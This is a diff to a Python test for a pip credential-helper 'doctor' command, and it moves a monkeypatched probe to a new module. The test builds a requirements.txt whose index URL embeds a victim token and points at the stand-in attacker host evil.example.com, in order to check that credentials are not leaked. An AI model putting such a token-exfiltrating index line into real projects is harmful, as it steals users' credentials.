@@ -22,6 +22,7 @@ from keyring_backend.http import split_userinfo
 from keyring_backend.probe import ProbeResult
 from keyring_backend.settings import Settings
 from pip_hook import doctor
+from pip_hook.doctor import indexes as doctor_indexes
 from pip_hook.render import Renderer
 from tests.conftest import make_canary
 from tests.leaks import assert_not_in_texts
@@ -120,7 +121,7 @@ def test_doctor_probes_anonymously_where_an_untrusted_file_chose_the_credential(
     (cloned / "requirements.txt").write_text(
         "--index-url https://u:${VICTIM_TOKEN}@evil.example.com/simple/\nacme\n")
     probe = RecordingProbe()
-    monkeypatch.setattr(doctor, "probe_index", probe)
+    monkeypatch.setattr(doctor_indexes, "probe_index", probe)
     out = io.StringIO()
     doctor.main(["-r", "requirements.txt"], out, env=env, cwd=cloned)
     [call] = probe.calls
